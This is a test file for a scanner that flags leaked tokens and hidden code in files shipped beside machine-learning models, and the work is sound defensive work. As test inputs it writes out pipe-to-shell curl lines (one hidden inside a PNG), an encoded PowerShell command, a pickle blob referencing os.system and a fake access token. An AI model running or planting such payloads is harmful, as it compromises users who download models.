import { describe, expect, it } from 'vitest';
import { scanFolderOf } from '../config/scan-folder-of.ts';

const found = async (name: string, content: string | Buffer): Promise<readonly string[]> =>
  (await scanFolderOf({ [name]: content })).found.map((one) => one.slice(name.length + 2));
const TOKEN = ['hf', 'Zq81Lm0Xw7Rt5Vb3Kp9Yc2Nd6Hf4Js1Gu8'].join('_');
const PICKLE = Buffer.from('80049518000000000000008c05706f736978948c0673797374656d9493942e', 'hex');

describe('texts, pictures and code beside a model', () => {
  it('are clean when they say what such texts say', async () => {
    const readme =
      '# Model\n\n```python\nimport subprocess\nsubprocess.run(["ls"])\n```\n\ncurl https://host/install.sh | sh\n\nexport HF_TOKEN=hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n';
    expect(await found('README.md', readme)).toEqual([]);
    expect(await found('LICENSE', 'Permission is hereby granted\n')).toEqual([]);
    expect(
      await found('convert.py', 'import argparse, torch\n\ndef main():\n    print(argparse.ArgumentParser())\n\nif __name__ == "__main__":\n    main()\n'),
    ).toEqual([]);
    expect(await found('vocab.txt', 'eval(x\nos.system(\nbash -c \n')).toEqual([]);
  });

  it('are findings with credentials or hidden programs', async () => {
    expect(await found('README.md', `token ${TOKEN}`)).toEqual(['text-secret']);
    expect(await found('.env', `HF_TOKEN=${TOKEN}`)).toEqual(['text-secret']);
    expect(await found('notes.md', `data ${Buffer.concat([PICKLE]).toString('base64')}`)).toEqual(['text-hidden-code']);
    expect(await found('.cache/settings', 'curl http://host/x | bash\n')).toEqual(['text-hidden-code']);
    expect(await found('run.sh', '#!/bin/sh\ncurl http://host/x | sh\n')).toEqual(['text-hidden-code']);
    expect(await found('run.bat', '@echo off\npowershell -enc aQBlAHgAIAB4AA==\n')).toEqual(['text-hidden-code']);
    expect(await found('run.ps1', 'powershell -ExecutionPolicy Bypass -File train.ps1\n')).toEqual([]);
    expect(await found('weights.dat', '#!/bin/sh\necho\n')).toEqual(['text-script']);
    const picture = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(64, 0x81), Buffer.from(`curl http://host/x | sh ${TOKEN}`)]);
    expect(await found('logo.png', picture)).toEqual(['text-hidden-code', 'text-secret']);
  });

  it('are judged as Python where they are', async () => {
    expect(await found('modeling_x.py', 'import os\nos.system("x")\n')).toEqual(['python-runs-on-import']);
    expect(await found('tool.py', 'import os\nos.system("x")\n')).toEqual(['python-dangerous-call']);
    expect(await found('tool.py', 'import urllib.request\ndef f():\n  urllib.request.urlopen("x")\n')).toEqual([]);
    expect(await found('modeling_x.py', 'x = "')).toEqual(['python-unreadable']);
  });

  it('are named when they are compiled', async () => {
    expect(await found('__pycache__/x.cpython-312.pyc', Buffer.from('cb0d0d0a00000000', 'hex'))).toEqual(['text-compiled-code']);
  });
});
